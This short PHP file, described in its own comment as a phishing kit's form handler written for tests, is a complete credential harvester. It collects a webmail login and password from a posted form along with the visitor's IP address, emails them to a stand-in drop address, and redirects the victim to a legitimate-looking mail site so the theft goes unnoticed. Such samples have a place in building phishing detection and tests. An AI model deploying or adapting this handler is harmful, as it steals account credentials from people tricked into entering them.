<?php
// a phishing kit's form handler (written for the tests, never run)
$ip = getenv("REMOTE_ADDR");
$message = "------ Webmail Login ------\n";
$message .= "Email: " . $_POST['login'] . "\n";
$message .= "Password: " . $_POST['passwd'] . "\n";
$message .= "IP: " . $ip . "\n";
$send = "results.box@example.net";
mail($send, "Login | $ip", $message);
header("Location: https://mail.example.com/");
